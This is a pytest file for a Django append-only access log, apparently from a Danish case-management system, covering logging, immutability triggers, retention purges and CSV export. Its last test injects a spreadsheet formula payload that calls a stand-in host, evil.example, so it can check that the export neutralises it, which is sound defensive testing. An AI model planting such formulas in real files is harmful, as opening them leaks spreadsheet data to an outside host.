"""The append-only access log (stu_case.audit)."""

from __future__ import annotations

from datetime import timedelta
from io import StringIO

import pgtrigger
import pytest
from django.db import transaction
from django.db.utils import InternalError
from django.test import RequestFactory
from django.utils import timezone

from stu_case.audit.models import AccessAction, AccessLog
from stu_case.audit.services import access_log_purge_expired, access_log_view, access_log_write


@pytest.fixture
def request_as(rf: RequestFactory):
    def make(user, ip="10.0.0.7", request_id="req-12345678"):
        request = rf.get("/unge/", REMOTE_ADDR=ip)
        request.user = user
        request.request_id = request_id
        return request

    return make


def test_one_row_per_person_with_who_where_and_why(request_as, uu_user, person, enrolled_person):
    request = request_as(uu_user)
    written = access_log_write(
        request=request,
        person_ids=[person.pk, enrolled_person.pk],
        action=AccessAction.EXPORT,
        purpose="Statusmøde",
    )
    assert written == 2
    rows = AccessLog.objects.order_by("person_id")
    assert {r.person_id for r in rows} == {person.pk, enrolled_person.pk}
    for row in rows:
        assert row.user == uu_user
        assert row.ip == "10.0.0.7"
        assert row.request_id == "req-12345678"
        assert row.action == "export"
        assert row.purpose == "Statusmøde"
        assert row.at is not None


def test_a_persons_log_lists_only_their_lookups(request_as, uu_user, person, enrolled_person):
    access_log_view(request=request_as(uu_user), person=person, purpose="Sagsbehandling")
    access_log_view(request=request_as(uu_user), person=enrolled_person, purpose="Sagsbehandling")
    log = list(AccessLog.objects.filter(person_id=person.pk))
    assert len(log) == 1
    assert log[0].action == "view"


def test_rows_cannot_be_updated_or_deleted(request_as, uu_user, person):
    access_log_view(request=request_as(uu_user), person=person, purpose="Sagsbehandling")
    row = AccessLog.objects.get()
    with pytest.raises(InternalError), transaction.atomic():
        AccessLog.objects.filter(pk=row.pk).update(purpose="Skjult")
    with pytest.raises(InternalError), transaction.atomic():
        AccessLog.objects.filter(pk=row.pk).delete()
    assert AccessLog.objects.get().purpose == "Sagsbehandling"


def test_purge_deletes_only_expired_rows(request_as, uu_user, person, settings):
    settings.ACCESS_LOG_RETENTION_DAYS = 180
    access_log_write(
        request=request_as(uu_user),
        person_ids=[person.pk, person.pk],
        action=AccessAction.VIEW,
        purpose="Sagsbehandling",
    )
    old, recent = AccessLog.objects.order_by("pk")
    with pgtrigger.ignore("audit.AccessLog:append_only"):  # test set-up: back-date one row
        AccessLog.objects.filter(pk=old.pk).update(at=timezone.now() - timedelta(days=181))

    assert access_log_purge_expired() == 1
    assert list(AccessLog.objects.values_list("pk", flat=True)) == [recent.pk]
    # …and the trigger is back in force after the purge.
    with pytest.raises(InternalError), transaction.atomic():
        AccessLog.objects.filter(pk=recent.pk).delete()


def test_anonymous_request_is_logged_without_user(rf, person):
    from django.contrib.auth.models import AnonymousUser

    request = rf.get("/")
    request.user = AnonymousUser()
    access_log_write(
        request=request, person_ids=[person.pk], action=AccessAction.SEARCH, purpose="Søgning"
    )
    assert AccessLog.objects.get().user is None


def test_nightly_purge_is_scheduled_and_safe_to_run_twice(request_as, uu_user, person, settings):
    from django.core.management import call_command

    from stu_case.audit.tasks import access_log_purge_expired

    entry = settings.CELERY_BEAT_SCHEDULE["access_log_purge_expired"]
    assert entry["task"] == access_log_purge_expired.name
    settings.ACCESS_LOG_RETENTION_DAYS = 30
    access_log_write(
        request=request_as(uu_user),
        person_ids=[person.pk, person.pk],
        action=AccessAction.VIEW,
        purpose="Sagsbehandling",
    )
    old = AccessLog.objects.order_by("pk").first()
    with pgtrigger.ignore("audit.AccessLog:append_only"):
        AccessLog.objects.filter(pk=old.pk).update(at=timezone.now() - timedelta(days=31))

    assert access_log_purge_expired.delay().get() == 1
    assert access_log_purge_expired.delay().get() == 0  # the second run finds nothing
    assert AccessLog.objects.count() == 1

    out = StringIO()
    call_command("access_log_purge_expired", stdout=out)
    assert "0 rækker ældre end 30 dage" in out.getvalue()


def _export_one(request, person, *, purpose: str):
    """Log one export of ``person`` and export the log: the response and its one data row."""
    from stu_case.audit.admin import export_access_log_csv

    access_log_write(
        request=request, person_ids=[person.pk], action=AccessAction.EXPORT, purpose=purpose
    )
    response = export_access_log_csv(AccessLog.objects.all())
    return response, response.content.decode("utf-8-sig").splitlines()[1]


@pytest.mark.time_machine("2027-01-01 00:20 +01:00", tick=False)
def test_export_is_named_after_the_danish_date_and_time(request_as, uu_user, person):
    # 20 minutes into the new year in Copenhagen it is still 31 December in UTC; the file
    # name carries the local time (only the tidspunkt_utc column is in UTC).
    response, row = _export_one(request_as(uu_user), person, purpose="Statusmøde")
    assert response["Content-Disposition"] == 'attachment; filename="adgangslog-20270101-0020.csv"'
    assert row.startswith("2026-12-31T23:20:")


def test_export_neutralises_spreadsheet_formulas(request_as, uu_user, person):
    """A purpose typed as a formula must not run when the leader opens the export in Excel."""
    purpose = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
    _response, row = _export_one(request_as(uu_user), person, purpose=purpose)
    assert ";\"'=HYPERLINK(" in row
    assert ";=HYPERLINK" not in row and ';"=HYPERLINK' not in row
